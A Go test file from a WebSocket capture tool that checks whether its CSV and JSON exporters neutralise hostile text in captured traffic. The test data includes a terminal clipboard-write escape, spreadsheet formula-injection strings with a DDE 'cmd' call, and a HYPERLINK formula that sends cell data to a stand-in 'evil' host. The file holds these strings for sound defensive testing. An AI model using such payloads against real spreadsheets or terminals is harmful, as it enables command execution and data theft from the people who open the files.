package report

import (
	"bytes"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"math/rand/v2"
	"net/netip"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/wsdump/wsdump/appproto"
	"github.com/wsdump/wsdump/wsparse"
)

// csvHostile are texts a capture can carry: terminal escapes (an OSC 52
// clipboard write), BEL, NUL, bidi overrides, C1 controls, line breaks,
// characters outside the BMP that must not be shown raw, and spreadsheet
// formulas.
var csvHostile = []string{
	"\x1b]52;c;ZWNobyBvd25lZA==\x07",
	"=HYPERLINK(\"http://evil/\"&A1)",
	"+cmd|' /C calc'!A0",
	"-2+3",
	"-1",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"\tleading tab",
	"\rleading CR",
	"'quoted",
	"\x00nul \x7f del",
	"bidi \u202egnp.exe\u202c \u2066x\u2069",
	"c1 \u009b2J \u0085",
	"line1\nline2\r\n",
	"tag \U000e0041 private \U000f0000",
	`back\slash "quotes", commas`,
	"plain text",
}

// csvRow writes one record through the CSV exporter and returns its row.
func csvRow(t *testing.T, write func(e *csvExporter)) []string {
	t.Helper()
	var buf bytes.Buffer
	e := newCSV(&buf, Options{Messages: true}, NewStabilizer(false))
	e.SetOrigin(time.Date(2026, 1, 1, 0, 0, 1, 0, time.UTC))
	write(e)
	e.opts.Messages = false
	if err := e.Close(); err != nil {
		t.Fatal(err)
	}
	checkCSVSafe(t, buf.Bytes())
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatalf("%v:\n%s", err, buf.String())
	}
	if len(rows) != 2 {
		t.Fatalf("%d rows:\n%q", len(rows), rows)
	}
	return rows[1]
}

// checkCSVSafe fails on characters that must not reach a terminal raw.
func checkCSVSafe(t *testing.T, out []byte) {
	t.Helper()
	if !utf8.Valid(out) {
		t.Fatalf("CSV is not UTF-8: %q", out)
	}
	for _, r := range string(out) {
		if r != '\n' && (r < 0x20 || r == 0x7f || unsafeRune(r)) {
			t.Fatalf("raw %U in CSV: %q", r, out)
		}
	}
}

// checkFormula fails when a text cell would run as a formula: it must
// begin with the ' prefix or with none of = + - @ tab CR.
func checkFormula(t *testing.T, col, cell string) {
	t.Helper()
	if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
		t.Errorf("%s cell %q runs as a formula", col, cell)
	}
}

// unescapeCSV undoes the escaping of the escaped payload encoding.
func unescapeCSV(t *testing.T, s string) string {
	t.Helper()
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] != '\\' {
			b.WriteByte(s[i])
			continue
		}
		i++
		n := 0
		switch s[i] {
		case '\\':
			b.WriteByte('\\')
		case 'n':
			b.WriteByte('\n')
		case 'r':
			b.WriteByte('\r')
		case 't':
			b.WriteByte('\t')
		case 'x':
			n = 2
		case 'u':
			n = 4
		case 'U':
			n = 8
		default:
			t.Fatalf("unknown escape in %q", s)
		}
		if n > 0 {
			v, err := strconv.ParseUint(s[i+1:i+1+n], 16, 32)
			if err != nil {
				t.Fatal(err)
			}
			if n == 2 {
				b.WriteByte(byte(v))
			} else {
				b.WriteRune(rune(v))
			}
			i += n
		}
	}
	return b.String()
}

// TestCSVCells writes each hostile text in every cell that carries
// traffic, through every record kind, and checks the cells: nothing raw
// for a terminal, no formula, payloads that decode back to what was sent,
// and wsdump's own numeric cells left numeric.
func TestCSVCells(t *testing.T) {
	c := wsparse.NewView(1, [2]netip.AddrPort{netip.MustParseAddrPort("192.0.2.1:40000"), netip.MustParseAddrPort("192.0.2.2:80")})
	t0 := time.Date(2026, 1, 1, 0, 0, 0, 500000000, time.UTC) // before the origin: a negative time
	const (
		colTime = 2
		colLen  = 9
		colEnc  = 13
		colPay  = 14
		colInfo = 15
	)
	type cellCase struct {
		name  string
		write func(e *csvExporter, s string)
		// payload: the bytes the payload column must decode to; nil when
		// the payload column is not used.
		payload func(s string) []byte
	}
	text := func(s string) []byte { return []byte(s) }
	cases := []cellCase{
		{"handshake host", func(e *csvExporter, s string) {
			e.Handshake(c, &wsparse.Handshake{TS: t0, Method: "GET", Host: s, URI: "/", Status: 101})
		}, nil},
		{"handshake uri", func(e *csvExporter, s string) {
			e.Handshake(c, &wsparse.Handshake{TS: t0, Method: "GET", Host: "h", URI: s})
		}, nil},
		{"handshake subprotocol and extensions", func(e *csvExporter, s string) {
			e.Handshake(c, &wsparse.Handshake{TS: t0, Method: "GET", Host: "h", URI: "/", Status: 101, Subprotocol: s, Extensions: s})
		}, nil},
		{"text frame", func(e *csvExporter, s string) {
			e.opts.Messages = false
			e.Frame(c, &wsparse.Frame{TS: t0, Header: wsparse.Header{Fin: true, Opcode: wsparse.OpText, Length: uint64(len(s))}, Payload: []byte(s)})
		}, text},
		{"continuation of a text message", func(e *csvExporter, s string) {
			e.opts.Messages = false
			e.Frame(c, &wsparse.Frame{TS: t0, MessageOpcode: wsparse.OpText, Header: wsparse.Header{Fin: true, Opcode: wsparse.OpContinuation, Length: uint64(len(s))}, Payload: []byte(s)})
		}, text},
		{"ping", func(e *csvExporter, s string) {
			e.opts.Messages = false
			e.Frame(c, &wsparse.Frame{TS: t0, Header: wsparse.Header{Fin: true, Opcode: wsparse.OpPing, Length: uint64(len(s))}, Payload: []byte(s)})
		}, text},
		{"binary frame", func(e *csvExporter, s string) {
			e.opts.Messages = false
			e.Frame(c, &wsparse.Frame{TS: t0, Header: wsparse.Header{Fin: true, Opcode: wsparse.OpBinary, Length: uint64(len(s))}, Payload: []byte(s)})
		}, text},
		{"close reason", func(e *csvExporter, s string) {
			e.opts.Messages = false
			e.Frame(c, &wsparse.Frame{TS: t0, Header: wsparse.Header{Fin: true, Opcode: wsparse.OpClose, Length: uint64(2 + len(s))},
				HasCloseCode: true, CloseCode: 1000, CloseReason: s, Payload: append([]byte{3, 0xe8}, s...)})
		}, func(s string) []byte { return append([]byte{3, 0xe8}, s...) }},
		{"text message", func(e *csvExporter, s string) {
			e.Message(c, &wsparse.Message{TS: t0, Opcode: wsparse.OpText, Frames: 1, Len: uint64(len(s)), Data: []byte(s)})
		}, text},
		{"binary message", func(e *csvExporter, s string) {
			e.Message(c, &wsparse.Message{TS: t0, Opcode: wsparse.OpBinary, Frames: 1, Len: uint64(len(s)), Data: []byte(s)})
		}, text},
		{"application summary", func(e *csvExporter, s string) {
			e.MessageApps(c, &wsparse.Message{TS: t0, Opcode: wsparse.OpBinary, Frames: 1, Len: 1, Data: []byte{1}},
				[]appproto.App{{Summary: s}, {Summary: s}})
		}, func(string) []byte { return []byte{1} }},
		{"connection end", func(e *csvExporter, s string) {
			// Nothing in the summary row comes from the traffic.
			e.End(c, &wsparse.Summary{Last: t0, End: wsparse.EndClean})
		}, nil},
		{"tls", func(e *csvExporter, s string) {
			e.TLSConn(c, t0, c.Client(), c.Server(), &wsparse.TLSInfo{Version: "TLS 1.3", SNI: s, Error: s, Bytes: [2]int64{1, 2}})
		}, nil},
	}
	for _, tc := range cases {
		for _, s := range csvHostile {
			row := csvRow(t, func(e *csvExporter) { tc.write(e, s) })
			where := tc.name + " " + strconv.Quote(s)
			if _, err := strconv.ParseFloat(row[colTime], 64); err != nil || !strings.HasPrefix(row[colTime], "-") {
				t.Errorf("%s: time %q is not the negative number it is", where, row[colTime])
			}
			if row[colLen] != "" {
				if _, err := strconv.ParseUint(row[colLen], 10, 64); err != nil {
					t.Errorf("%s: len %q", where, row[colLen])
				}
			}
			checkFormula(t, where+" info", row[colInfo])
			if tc.payload == nil {
				continue
			}
			want := tc.payload(s)
			enc, cell := row[colEnc], row[colPay]
			var got []byte
			switch enc {
			case "hex":
				var err error
				if got, err = hex.DecodeString(cell); err != nil {
					t.Errorf("%s: hex payload %q", where, cell)
				}
			case "text", "escaped":
				checkFormula(t, where+" payload", cell)
				cell = strings.TrimPrefix(cell, "'")
				if enc == "escaped" {
					cell = unescapeCSV(t, cell)
				}
				got = []byte(cell)
			default:
				t.Fatalf("%s: payload_encoding %q", where, enc)
			}
			if !bytes.Equal(got, want) {
				t.Errorf("%s: payload %s %q decodes to %q", where, enc, row[colPay], got)
			}
		}
	}
}

// TestJSONStringSafe: JSON strings carry the same text, with nothing a
// terminal would act on (C1 controls, bidi overrides) left raw.
func TestJSONStringSafe(t *testing.T) {
	for _, s := range csvHostile {
		out := appendString(nil, s)
		checkCSVSafe(t, out)
		var back string
		if err := json.Unmarshal(out, &back); err != nil || back != s {
			t.Errorf("%q -> %s -> %q (%v)", s, out, back, err)
		}
	}
}

// TestCSVRowAsEncodingCSV: appendCSVRow writes a row byte for byte as
// encoding/csv's Writer does (comma ",", no CRLF), for fields that need
// no quotes, quotes, commas, carriage returns and line feeds anywhere, a
// leading ASCII or Unicode space, exactly \., invalid UTF-8, and random
// bytes; the bytes column the same as a string one.
func TestCSVRowAsEncodingCSV(t *testing.T) {
	fields := append([]string{"", "a", `\.`, `\.x`, ".", " lead", "trail ", "\u00a0nbsp", "\u3000ideographic",
		"\u2028sep", "\x85nel", "\xff\xfe", `"`, `""`, `a"b"c`, "a,b", "a\rb", "a\nb", "\r\n", ",", `"x",`,
		"\tt", "\vv", "\ff", "x\x00y"}, csvHostile...)
	r := rand.New(rand.NewPCG(1, 2))
	for range 300 {
		b := make([]byte, r.IntN(200)) // past 64: the long fields' search
		const alphabet = " ,\"\r\na\\\xc2\xa0\xff"
		for i := range b {
			b[i] = 'x'
			if r.IntN(40) == 0 { // sparse, so that long fields without any come too
				b[i] = alphabet[r.IntN(len(alphabet))]
			}
		}
		fields = append(fields, string(b))
	}
	for i := range len(fields) {
		row := []string{fields[i], fields[(i*7+3)%len(fields)], fields[(i*13+5)%len(fields)]}
		var want bytes.Buffer
		w := csv.NewWriter(&want)
		w.Write(row)
		w.Flush()
		if got := appendCSVRow(nil, row, -1, nil, false); string(got) != want.String() {
			t.Errorf("row %q:\n got %q\nwant %q", row, got, want.String())
		}
		if got := appendCSVRow(nil, []string{row[0], "", row[2]}, 1, []byte(row[1]), false); string(got) != want.String() {
			t.Errorf("row %q, the middle as bytes:\n got %q\nwant %q", row, got, want.String())
		}
	}
}
